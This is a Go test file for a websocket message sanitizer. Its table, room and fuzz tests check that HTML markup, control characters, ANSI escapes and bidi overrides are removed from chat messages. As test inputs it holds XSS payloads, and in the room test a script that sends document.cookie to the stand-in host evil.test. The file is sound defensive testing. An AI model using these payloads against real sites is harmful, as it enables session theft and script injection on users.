package wssec_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"slices"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/microcosm-cc/bluemonday"

	"github.com/rampart-go/rampart/internal/textctl"
	"github.com/rampart-go/rampart/wssec"
)

var sanitizeCases = []struct {
	name, in, want string
}{
	{"benign_json_untouched_byte_for_byte", `{"text": "hello world", "n": 1}`, `{"text": "hello world", "n": 1}`},
	{"benign_text_untouched", `just chatting`, `just chatting`},
	{"script_in_value_removed", `{"text":"<script>alert(1)</script>hi","n":1}`, `{"n":1,"text":"hi"}`},
	{"img_onerror_removed", `{"text":"<img src=x onerror=alert(1)>hello"}`, `{"text":"hello"}`},
	{"escaped_markup_in_value_removed", `{"text":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, `{"text":""}`},
	{"keys_untouched", `{"<b>k</b>":"<b>v</b>"}`, `{"<b>k</b>":"v"}`},
	{"numbers_verbatim", `{"big":1e400,"f":1.50,"s":"<i>x</i>"}`, `{"big":1e400,"f":1.50,"s":"x"}`},
	{"nested_arrays", `[{"a":["<u>x</u>",null,true,2]}]`, `[{"a":["x",null,true,2]}]`},
	{"ampersand_becomes_entity", `{"t":"a & b"}`, `{"t":"a &amp; b"}`},
	{"plain_text_markup_removed", `<img src=x onerror=alert(1)>hello`, `hello`},
	{"plain_text_quote_escaped", `say "hi"`, `say &#34;hi&#34;`},
	{"entity_text_stays_escaped", `&lt;script&gt;`, `&lt;script&gt;`},
	// Control characters pass HTML sanitizing; they are stripped (tab and
	// line feed stay), raw, as JSON escapes or as character references.
	{"escaped_nul_removed", `{"t":"a\u0000b"}`, `{"t":"ab"}`},
	{"escaped_ansi_removed_whole", `{"t":"\u001b[31mred\u001b[0m \u001b]0;title\u0007ok"}`, `{"t":"red ok"}`},
	{"raw_bidi_override_removed", "{\"t\":\"abc\u202edef\u2066x\u2069\"}", `{"t":"abcdefx"}`},
	{"raw_c1_and_del_removed", "{\"t\":\"a\u0085b\u007fc\"}", `{"t":"abc"}`},
	{"escaped_bidi_removed", `{"t":"x\u202Ey"}`, `{"t":"xy"}`},
	{"entity_ansi_removed", `{"t":"&#27;[31mred &#x202E;x"}`, `{"t":"red x"}`},
	{"plain_text_controls_removed", "hi\x00 \x1b[2Jthere\u202e!", `hi there!`},
	{"tab_newline_kept_byte_for_byte", `{"t":"a\tb\nc"}`, `{"t":"a\tb\nc"}`},
	{"typographic_unicode_untouched", "{\"t\":\"\u201cquoted\u201d \u2014 caf\u00e9 \u2018x\u2019 \u20ac\"}", "{\"t\":\"\u201cquoted\u201d \u2014 caf\u00e9 \u2018x\u2019 \u20ac\"}"},
}

func TestJSONSanitizer(t *testing.T) {
	t.Parallel()
	s := wssec.NewJSONSanitizer(nil)
	for _, tc := range sanitizeCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := string(s.Sanitize([]byte(tc.in)))
			if got != tc.want {
				t.Fatalf("Sanitize(%s) = %s, want %s", tc.in, got, tc.want)
			}
			if again := string(s.Sanitize([]byte(got))); again != got {
				t.Fatalf("not idempotent: %s then %s", got, again)
			}
		})
	}
}

func TestJSONSanitizer_customPolicyKeepsAllowedMarkup(t *testing.T) {
	t.Parallel()
	s := wssec.NewJSONSanitizer(bluemonday.UGCPolicy())
	got := string(s.Sanitize([]byte(`{"t":"<b>bold</b><script>x</script>"}`)))
	if got != `{"t":"<b>bold</b>"}` {
		t.Fatalf("got %s", got)
	}
}

func TestJSONSanitizer_sanitizeJSONRefusesNonJSON(t *testing.T) {
	t.Parallel()
	_, err := wssec.NewJSONSanitizer(nil).SanitizeJSON([]byte(`{"a":1} {"b":2}`))
	if !errors.Is(err, wssec.ErrNotJSON) {
		t.Fatalf("err %v, want ErrNotJSON", err)
	}
}

// TestRoom_xssArrivesSanitized: an attacker's chat message reaches the other
// members with its markup removed; a benign one arrives unchanged; binary
// messages are never touched.
func TestRoom_xssArrivesSanitized(t *testing.T) {
	t.Parallel()
	room := NewRoom()
	srv, _ := server(t, wssec.Options{Authenticator: verifier(t, nil)}, room.Serve)
	mallory := dial(t, srv, bearer(token(t, "mallory", t0)))
	alice := dial(t, srv, bearer(token(t, "alice", t0)))
	eventually(t, "both members joined", func() bool { return room.Len() == 2 })

	for _, tc := range []struct{ send, want string }{
		{`{"text":"<script>document.location='https://evil.test/?c='+document.cookie</script>hi all"}`, `{"text":"hi all"}`},
		{`<img src=x onerror=alert(1)>plain`, `plain`},
		{`{"text":"hello, benign"}`, `{"text":"hello, benign"}`},
	} {
		write(t, mallory, tc.send)
		if got := read(t, alice); got != tc.want {
			t.Fatalf("alice received %s, want %s", got, tc.want)
		}
	}
	bin := []byte("<script>binary is opaque</script>")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := mallory.Write(ctx, websocket.MessageBinary, bin); err != nil {
		t.Fatal(err)
	}
	typ, got, err := alice.Read(ctx)
	if err != nil || typ != websocket.MessageBinary || string(got) != string(bin) {
		t.Fatalf("binary: %v %q %v", typ, got, err)
	}
}

func TestConn_sanitizeOff(t *testing.T) {
	t.Parallel()
	srv, _ := server(t, wssec.Options{Authenticator: verifier(t, nil), InsecureNoSanitize: true}, echo)
	c := dial(t, srv, bearer(token(t, "alice", t0)))
	write(t, c, "<b>raw</b>")
	if got := read(t, c); got != "<b>raw</b>" {
		t.Fatalf("got %q", got)
	}
}

// FuzzSanitize: never panics, idempotent, valid JSON stays valid JSON with
// the same keys.
func FuzzSanitize(f *testing.F) {
	for _, tc := range sanitizeCases {
		f.Add([]byte(tc.in))
	}
	f.Add([]byte(`{"a":"\ud800"}`))
	f.Add([]byte("\xff<\xfe>"))
	f.Add([]byte("{\"t\":\"\x1b[1m\u202e\\u0000&#x9b;\xc2\"}"))
	f.Add([]byte("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \x00"))
	f.Add([]byte(`{"t":"&#x1b;<b>x</b>&#X1B<B>"}`))
	strict, ugc := wssec.NewJSONSanitizer(nil), wssec.NewJSONSanitizer(bluemonday.UGCPolicy())
	f.Fuzz(func(t *testing.T, in []byte) {
		for _, s := range []*wssec.JSONSanitizer{strict, ugc} {
			orig := append([]byte(nil), in...)
			out := s.Sanitize(in)
			if string(in) != string(orig) {
				t.Fatal("Sanitize modified its input")
			}
			if again := s.Sanitize(out); string(again) != string(out) {
				t.Fatalf("not idempotent:\n in  %q\n out %q\n again %q", in, out, again)
			}
			if !json.Valid(in) {
				if at, r, bad := textctl.Find(string(out), true); bad {
					t.Fatalf("text %q kept control U+%04X at %d: %q", in, r, at, out)
				}
				continue
			}
			for _, v := range jsonStrings(t, out) {
				if at, r, bad := textctl.Find(v, true); bad {
					t.Fatalf("JSON %q kept control U+%04X at %d of value %q", in, r, at, v)
				}
			}
			if !json.Valid(out) {
				t.Fatalf("valid JSON %q became invalid %q", in, out)
			}
			if a, b := jsonKeys(t, in), jsonKeys(t, out); !slices.Equal(a, b) {
				t.Fatalf("keys changed: %q -> %q", a, b)
			}
		}
	})
}

// jsonStrings lists the string values of a JSON document.
func jsonStrings(t *testing.T, data []byte) []string {
	var v any
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	if err := dec.Decode(&v); err != nil {
		t.Fatalf("unmarshal %q: %v", data, err)
	}
	var out []string
	var walk func(any)
	walk = func(v any) {
		switch x := v.(type) {
		case string:
			out = append(out, x)
		case []any:
			for _, e := range x {
				walk(e)
			}
		case map[string]any:
			for _, e := range x {
				walk(e)
			}
		}
	}
	walk(v)
	return out
}

// jsonKeys lists the distinct object keys of a JSON document, sorted.
func jsonKeys(t *testing.T, data []byte) []string {
	var v any
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	if err := dec.Decode(&v); err != nil {
		t.Fatalf("unmarshal %q: %v", data, err)
	}
	var keys []string
	var walk func(any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			for k, e := range x {
				keys = append(keys, k)
				walk(e)
			}
		case []any:
			for _, e := range x {
				walk(e)
			}
		}
	}
	walk(v)
	slices.Sort(keys)
	return slices.Compact(keys)
}
